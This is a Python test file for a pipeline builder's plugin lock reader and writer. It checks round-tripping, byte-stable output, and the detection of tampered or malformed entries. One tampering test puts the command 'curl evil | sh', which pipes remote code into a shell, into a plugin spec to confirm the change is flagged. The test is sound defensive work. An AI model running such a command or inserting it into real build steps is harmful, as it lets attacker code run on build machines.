"""The lock: what was resolved, whole, and nothing else."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pipeline_builder.core.definition.model import (
    ComputeType,
    Effect,
    FailureBehavior,
    Permission,
    PluginFilter,
    PluginReference,
)
from pipeline_builder.core.diagnostics import Location, Report
from pipeline_builder.core.plugins import lock as lock_module
from pipeline_builder.core.plugins.lock import Lock, read_lock, write_lock
from pipeline_builder.core.plugins.model import (
    BuildType,
    InputType,
    OutputKind,
    PluginInput,
    PluginOutput,
    PluginSecret,
    PluginType,
    Request,
    ValueKind,
)
from tests.core.plugins.factories import DIGEST, a_plugin, an_input


def a_lock(**plugins):
    return Lock("1.0.0", {Request("jest", "^1"): a_plugin("jest", "1.2.0", **plugins)})


def read(text):
    report = Report()
    lock = read_lock(text.encode(), report)
    return lock, report


def codes(text):
    lock, report = read(text)
    assert lock is None
    return [(one.code, one.position.line if one.position else None) for one in report]


def changed(text, **entry):
    """The lock with its only entry changed as if by hand."""
    data = json.loads(text)
    data["plugins"]["jest@^1"].update(entry)
    return json.dumps(data, indent=2, sort_keys=True)


TEXTS = st.text(max_size=20)
NAMES = st.from_regex(r"[A-Za-z][A-Za-z0-9_]{0,5}", fullmatch=True)
VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(10**6), 10**6) | TEXTS,
    lambda inner: st.lists(inner, max_size=2).map(tuple) | st.dictionaries(NAMES, inner, max_size=2),
    max_leaves=4,
)
PLUGINS = st.builds(
    a_plugin,
    st.just("jest"),
    st.sampled_from(["1.0.0", "1.2.3"]),
    owner=st.sampled_from(["system", "own", "org-acme_1"]),
    digest=st.sampled_from([None, DIGEST]),
    build_type=st.sampled_from(BuildType),
    description=st.none() | TEXTS,
    keywords=st.lists(TEXTS, max_size=2).map(tuple),
    plugin_type=st.sampled_from(PluginType),
    compute_type=st.sampled_from(ComputeType),
    failure_behavior=st.sampled_from(FailureBehavior),
    timeout=st.none() | st.integers(0, 2160),
    privileged=st.booleans(),
    secrets=st.just(()) | st.just((PluginSecret(name="TOKEN", required=True, description="x"),)),
    metadata=st.dictionaries(NAMES, VALUES, max_size=3),
    inputs=st.just({})
    | st.just({"failOn": PluginInput(type=InputType.STRING, description="", enum=("a",), default="")}),
    env=st.dictionaries(
        st.from_regex(r"[A-Z]{1,4}", fullmatch=True).map("X_{}".format), TEXTS.filter(lambda text: "{{" not in text)
    ),
    commands=st.lists(TEXTS.filter(lambda text: "{{" not in text), min_size=1, max_size=3).map(tuple),
    outputs=st.just(()) | st.just((PluginOutput(kind=OutputKind.CLOUD_ASSEMBLY, path="cdk.out"),)),
    permissions=st.just(())
    | st.just(
        (
            Permission(
                actions=("s3:GetObject",), resources=("*",), effect=Effect.DENY, conditions={"Bool": {"b": ("c",)}}
            ),
        )
    ),
    vars_types=st.just({}) | st.just({"a": ValueKind.JSON}),
)


@given(PLUGINS)
def test_a_lock_reads_as_it_was_written(plugin):
    lock = Lock("1.0.0", {Request("jest", "^1"): plugin, Request("jest", "*"): plugin})

    assert read(write_lock(lock))[0] == lock


def test_the_order_of_resolving_does_not_change_a_byte():
    plugins = {
        Request("jest", "^1"): a_plugin("jest"),
        Request("a", "*"): a_plugin("a"),
        Request("b", "*"): a_plugin("b"),
    }

    assert write_lock(Lock("1", plugins)) == write_lock(Lock("1", dict(reversed(plugins.items()))))


def test_a_lock_says_what_was_asked_for_and_what_was_found():
    data = json.loads(write_lock(a_lock(owner="org-1", digest=DIGEST, env={"CI": "true"})))
    entry = data["plugins"]["jest@^1"]

    assert (data["schemaVersion"], data["madeBy"]) == (1, "1.0.0")
    assert (entry["name"], entry["version"], entry["owner"], entry["digest"]) == ("jest", "1.2.0", "org-1", DIGEST)
    assert entry["buildType"] == "build_image"
    assert entry["spec"] == {
        "name": "jest",
        "version": "1.2.0",
        "category": "unknown",
        "pluginType": "CodeBuildStep",
        "computeType": "SMALL",
        "failureBehavior": "fail",
        "privileged": False,
        "env": {"CI": "true"},
        "commands": ["true"],
    }


def test_a_lock_is_made_of_references_and_what_they_resolved_to():
    first, second, third = (Location() / number for number in range(3))
    jest = a_plugin("jest")
    references = {
        first: PluginReference.from_text("jest@^1"),
        second: PluginReference(name="label", filter=PluginFilter(name="jest", version="1.0.0")),
        third: PluginReference.from_text("unknown"),
    }

    lock = Lock.of(references, {first: jest, second: jest}, "1.0.0")

    assert lock.plugins == {Request("jest", "^1"): jest, Request("jest", "1.0.0"): jest}


@pytest.mark.parametrize(
    "change",
    [
        {"version": "1.3.0"},
        {"owner": "own"},
        {"digest": "sha256:" + "f" * 64},
        {"buildType": "metadata_only"},
        {"contentHash": "sha256:" + "0" * 64},
        {"spec": {"name": "jest", "version": "1.2.0", "commands": ["curl evil | sh"]}},
    ],
)
def test_a_changed_entry_is_found(change):
    assert codes(changed(write_lock(a_lock()), **change)) == [("lock-tampered", 4)]


def test_an_entry_under_another_name_is_found():
    text = write_lock(a_lock()).replace('"jest@^1"', '"mypy@^1"')

    assert codes(text) == [("lock-tampered", 4)]


@pytest.mark.parametrize(
    "request_", [Request("mypy", "^1"), Request("jest", "^2"), Request("jest", "latest"), Request("jest", "")]
)
def test_an_entry_that_is_no_answer_is_found(request_):
    lock = Lock("1.0.0", {request_: a_plugin("jest", "1.2.0")})
    text = write_lock(lock)

    if request_.version == "":
        assert read(text)[0] == lock
    else:
        assert codes(text) == [("lock-tampered", 4)]


def test_an_entry_may_answer_to_an_alias():
    lock = Lock("1.0.0", {Request("nodejs-jest", "*"): a_plugin("jest", aliases=("nodejs-jest",))})

    assert read(write_lock(lock))[0] == lock


def test_a_specification_of_another_plugin_is_found(monkeypatch):
    monkeypatch.setattr(lock_module, "_content_hash", lambda *_: DIGEST)
    text = write_lock(a_lock())

    assert codes(changed(text, version="1.9.0")) == [("lock-tampered", 4)]


def test_a_specification_is_checked_like_any_other():
    text = write_lock(a_lock(inputs={"a": an_input(pattern="(a")}))

    ((code, line),) = codes(text)

    assert code == "unsupported-pattern"
    assert '"pattern"' in text.splitlines()[line - 1]


def test_a_lock_of_a_later_format_says_what_to_do():
    assert codes(write_lock(a_lock()).replace('"schemaVersion": 1', '"schemaVersion": 2')) == [("lock-unsupported", 24)]


@pytest.mark.parametrize(
    "text", ["", "[]", "x", "{}", '{"schemaVersion": 1}', "{", '{"schemaVersion": "1", "madeBy": "1", "plugins": {}}']
)
def test_what_is_no_lock_is_a_finding(text):
    assert codes(text)


def test_an_entry_of_the_wrong_shape_is_a_finding_with_its_place():
    assert codes(changed(write_lock(a_lock()), owner="../x", digest="latest", surprise=1)) == [
        ("wrong-pattern", 7),
        ("wrong-pattern", 9),
        ("unknown-key", 22),
    ]


def test_findings_name_the_file():
    report = Report()

    read_lock(b"[]", report, name="app/pipeline.lock")

    assert {one.file for one in report} == {"app/pipeline.lock"}


@given(st.data())
def test_no_change_of_a_byte_goes_unnoticed(data):
    text = write_lock(a_lock(digest=DIGEST))
    at = data.draw(st.integers(0, len(text) - 1))
    broken = text[:at] + data.draw(st.characters(codec="ascii")) + text[at + 1 :]

    lock, report = read(broken)

    assert report.has_errors or lock.plugins == a_lock(digest=DIGEST).plugins
